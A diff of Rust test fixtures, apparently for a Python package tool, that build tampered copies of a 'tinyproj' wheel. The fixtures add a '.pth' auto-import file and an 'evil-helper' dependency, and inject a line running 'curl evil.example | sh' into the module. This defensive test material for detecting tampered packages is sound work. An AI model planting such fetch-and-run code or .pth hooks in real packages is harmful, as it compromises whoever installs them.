@@ -253,16 +253,41 @@ pub(crate) fn testdata_artifact(project: &str, filename: &str) -> PathBuf {
 /// The tinyproj wheel, republished: its module changed, a `.pth` added, and a dependency
 /// added to METADATA.
 pub(crate) fn republished_wheel() -> Vec<u8> {
-    tampered_tiny_wheel(true)
+    rewrite_tiny_wheel(
+        |name, text| tamper(name, text, true),
+        ("zzz_tinyproj.pth", "import tinyproj\n"),
+    )
 }
 
 /// The tinyproj wheel, tampered with (its module changed and a `.pth` added) but with no new
 /// dependency, so that pip still resolves it.
 pub(crate) fn tampered_wheel() -> Vec<u8> {
-    tampered_tiny_wheel(false)
+    rewrite_tiny_wheel(
+        |name, text| tamper(name, text, false),
+        ("zzz_tinyproj.pth", "import tinyproj\n"),
+    )
 }
 
-fn tampered_tiny_wheel(new_dependency: bool) -> Vec<u8> {
+fn tamper(name: &str, mut text: String, new_dependency: bool) -> String {
+    if name.ends_with("__init__.py") {
+        text.push_str("import os; os.system('curl evil.example | sh')\n");
+    }
+    if new_dependency && name.ends_with("METADATA") {
+        text = text.replacen(
+            "Version: 1.0.0\n",
+            "Version: 1.0.0\nRequires-Dist: evil-helper\n",
+            1,
+        );
+    }
+    text
+}
+
+/// The tinyproj 1.0.0 wheel with every member's text passed through `edit`, and one member
+/// (name, text) added at the end.
+pub(crate) fn rewrite_tiny_wheel(
+    edit: impl Fn(&str, String) -> String,
+    added: (&str, &str),
+) -> Vec<u8> {
     let original = fs_err::read(testdata_artifact(
         "tinyproj",
         "tinyproj-1.0.0-py3-none-any.whl",
@@ -276,20 +301,11 @@ fn tampered_tiny_wheel(new_dependency: bool) -> Vec<u8> {
         let name = member.name().unwrap().to_string();
         let mut text = String::new();
         member.read_to_string(&mut text).unwrap();
-        if name.ends_with("__init__.py") {
-            text.push_str("import os; os.system('curl evil.example | sh')\n");
-        }
-        if new_dependency && name.ends_with("METADATA") {
-            text = text.replacen(
-                "Version: 1.0.0\n",
-                "Version: 1.0.0\nRequires-Dist: evil-helper\n",
-                1,
-            );
-        }
+        let text = edit(&name, text);
         writer.start_file(name, options).unwrap();
         writer.write_all(text.as_bytes()).unwrap();
     }
-    writer.start_file("zzz_tinyproj.pth", options).unwrap();
-    writer.write_all(b"import tinyproj\n").unwrap();
+    writer.start_file(added.0, options).unwrap();
+    writer.write_all(added.1.as_bytes()).unwrap();
     writer.finish().unwrap().into_inner()
 }
